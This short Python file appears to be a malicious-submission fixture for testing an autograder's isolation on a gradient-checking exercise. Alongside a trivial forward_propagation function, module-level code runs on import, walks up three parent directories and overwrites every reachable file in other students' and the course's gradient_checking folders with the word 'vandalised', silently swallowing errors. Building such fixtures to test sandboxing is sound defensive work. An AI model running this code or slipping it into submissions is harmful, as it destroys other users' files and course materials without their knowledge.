"""Overwrites every file it can reach in other students' folders (and the
course's source and release folders)."""
EXPECTED = {}

# %% [forward_propagation]
import pathlib


def forward_propagation(x, theta):
    return theta * x


for folder in list(pathlib.Path.cwd().parents)[:3]:
    for victim in folder.glob("*/gradient_checking/*"):
        if "vandalises" not in str(victim):
            try:
                victim.write_text("vandalised")
            except OSError:
                pass
